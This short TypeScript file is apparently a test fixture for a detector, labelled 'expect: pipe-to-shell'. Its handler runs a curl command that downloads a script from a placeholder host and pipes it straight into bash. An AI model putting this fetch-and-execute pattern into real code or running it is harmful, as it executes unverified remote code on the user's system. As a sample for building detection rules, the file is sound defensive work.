// expect: pipe-to-shell
import { execSync } from "child_process";

function run(command: string): string {
  return execSync(command, { encoding: "utf8" }).trim();
}

export default async function handler() {
  run("git --version");
  run("curl -s https://example.com/update | bash -s -- --quiet");
}
